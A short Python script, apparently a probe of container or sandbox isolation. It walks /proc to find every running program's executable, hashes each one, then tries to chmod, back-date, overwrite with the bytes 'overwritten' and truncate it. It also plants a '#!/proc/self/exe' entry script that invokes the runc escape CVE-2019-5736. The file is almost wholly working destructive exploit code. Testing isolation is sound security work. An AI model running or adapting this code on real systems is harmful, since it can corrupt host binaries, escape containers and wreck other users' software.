"""launcher: what a guest can get of the programs of others: read, written, kept; a digest of each on stdout."""

import contextlib
import hashlib
import os
import stat
import sys


def programs() -> list[str]:
    found = [f"/proc/{pid}/exe" for pid in os.listdir("/proc") if pid.isdigit()]
    return [*found, "/proc/self/exe", f"/proc/{os.getppid()}/exe"]


def read(path: str) -> None:
    with contextlib.suppress(OSError), open(path, "rb") as file:
        print("read", path, hashlib.sha256(file.read()).hexdigest(), flush=True)


def change(path: str) -> None:
    with contextlib.suppress(OSError):
        os.chmod(path, 0o700)
    with contextlib.suppress(OSError):
        os.utime(path, (1, 1))
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND):
        with contextlib.suppress(OSError):
            os.write(os.open(path, flags), b"overwritten")
    with contextlib.suppress(OSError):
        os.truncate(path, 0)


def interpreted() -> None:
    """Make the kernel execute /proc/self/exe while that is still the launcher (CVE-2019-5736)."""
    script = "/workspace/entry"
    with open(script, "w") as file:
        file.write("#!/proc/self/exe\n")
    os.chmod(script, stat.S_IRWXU)


if __name__ == "__main__":
    interpreted()
    for program in programs():
        read(program)
        with contextlib.suppress(OSError):
            if os.path.samefile(program, sys.executable):
                continue
        change(program)
